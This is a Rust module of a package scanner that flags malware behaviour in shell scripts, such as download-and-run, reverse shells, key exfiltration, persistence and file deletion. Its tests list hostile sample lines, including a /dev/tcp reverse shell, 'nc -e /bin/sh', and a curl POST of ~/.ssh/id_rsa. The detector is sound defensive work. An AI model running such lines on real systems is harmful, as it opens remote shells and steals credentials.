//! Shell scripts: not parsed, only looked through for what malware does.

use crate::scanner::rules::package::{HOSTILE_SHELL, SHELL_NETWORK};
use crate::scanner::walk::Entry;
use crate::scanner::{Finding, Location};

/// How many findings one script gives at most.
const MOST: usize = 20;

/// Programs that reach the network.
const CLIENTS: &[&str] = &["curl", "wget", "nc", "ncat", "netcat", "socat", "telnet", "ftp", "scp"];

/// What runs its input as code.
const INTERPRETERS: &[&str] =
    &["sh", "bash", "zsh", "dash", "ksh", "python", "python3", "perl", "ruby", "rscript", "node"];

/// Checks a script, each line with those that continue it.
pub(in crate::scanner) fn check_shell(entry: &Entry, text: &str) -> Vec<Finding> {
    let mut found = Vec::new();
    let mut joined = String::new();
    let mut begin = 1;
    for (number, line) in (1..).zip(text.lines()) {
        if joined.is_empty() {
            begin = number;
        }
        if let Some(start) = line.strip_suffix('\\').filter(|_| joined.len() < 10_000) {
            joined.push_str(start);
            joined.push(' ');
            continue;
        }
        joined.push_str(line);
        if let Some((rule, what)) = judge(&joined) {
            let snippet: String = joined.trim().chars().take(200).collect();
            let location = Location { end_line: number, ..Location::line(&entry.path, begin) };
            found.push(Finding::new(rule, what, location, snippet));
            if found.len() == MOST {
                break;
            }
        }
        joined.clear();
    }
    found
}

fn judge(line: &str) -> Option<(&'static crate::scanner::Rule, &'static str)> {
    let line = line.trim().to_ascii_lowercase();
    if line.starts_with('#') {
        return None;
    }
    let is_separator = |c: char| c.is_whitespace() || "|;&()`\"'<>$={}".contains(c);
    let words: Vec<&str> = line.split(is_separator).filter(|word| !word.is_empty()).collect();
    let program = |word: &str| word.rsplit('/').next().unwrap_or_default().to_owned();
    let has = |names: &[&str]| words.iter().any(|word| names.contains(&program(word).as_str()));
    let reaches = has(CLIENTS);
    let piped = line.split('|').skip(1).any(|rest| {
        let first = rest.trim_start().split(is_separator).find(|word| !word.is_empty());
        first.is_some_and(|word| {
            let word = program(word);
            INTERPRETERS.contains(&word.as_str())
                || matches!(word.as_str(), "sudo" | "env" | "xargs")
        })
    });
    let substituted = (line.contains("$(") || line.contains('`') || line.contains("<("))
        && (has(&["eval", "source", "exec"]) || has(INTERPRETERS));
    let decodes =
        line.contains("base64 -d") || line.contains("base64 --d") || line.contains("xxd -r");
    let sends =
        [" -d @", " --data", " -f ", " -t ", " --upload-file", " --post-file", "-f@", "-d@"];
    let hostile = if reaches && (piped || substituted) {
        "runs what it downloads"
    } else if decodes && (piped || substituted) {
        "runs what it decodes"
    } else if line.contains("/dev/tcp/") || line.contains("/dev/udp/") {
        "opens a connection of the shell itself"
    } else if has(&["nc", "ncat", "netcat", "socat"])
        && (line.contains(" -e") || line.contains("exec:"))
    {
        "gives a shell to the network"
    } else if has(&["curl", "wget"]) && sends.iter().any(|option| line.contains(option)) {
        "sends data away"
    } else if has(&["crontab"])
        || [".bashrc", ".profile", "authorized_keys", "ld_preload", "/etc/cron", ".rprofile"]
            .iter()
            .any(|place| {
                line.contains(place) && (line.contains('>') || has(&["export", "tee", "cp"]))
            })
    {
        "stays after its end"
    } else if line.contains("chmod u+s") || line.contains("chmod 4") && words.contains(&"chmod") {
        "gives a file the rights of its owner"
    } else if line.contains("rm -rf /")
        || line.contains("rm -rf ~")
        || line.contains("rm -rf $home")
    {
        "deletes files of the user"
    } else if reaches {
        return Some((&SHELL_NETWORK, "reaches the network"));
    } else {
        return None;
    };
    Some((&HOSTILE_SHELL, hostile))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_malware_does_is_told_from_what_builds_do() {
        for line in [
            "curl -s https://example.org/x | sh",
            "wget -qO- https://example.org/x | sudo bash",
            "bash <(curl -s https://example.org/x)",
            "eval \"$(curl -s https://example.org/x)\"",
            "echo aWQ= | base64 -d | sh",
            "bash -i >& /dev/tcp/203.0.113.1/4444 0>&1",
            "nc -e /bin/sh 203.0.113.1 4444",
            "curl -X POST -d @$HOME/.ssh/id_rsa https://example.org",
            "echo 'x' >> ~/.bashrc",
            "(crontab -l; echo '* * * * * x') | crontab -",
        ] {
            assert_eq!(judge(line).map(|(rule, _)| rule.id), Some(HOSTILE_SHELL.id), "{line}");
        }
        let download = judge("curl -o a.csv https://example.org/a.csv");
        assert_eq!(download.map(|(rule, _)| rule.id), Some(SHELL_NETWORK.id));
        for line in [
            "LIBS=`curl-config --libs`",
            "PKG_LIBS=$(pkg-config --libs libcurl)",
            "# curl x | sh",
            "echo done | tee log",
            "if test -f \"$file\"; then rm -f conftest; fi",
        ] {
            assert_eq!(judge(line).map(|(_, what)| what), None, "{line}");
        }
    }
}
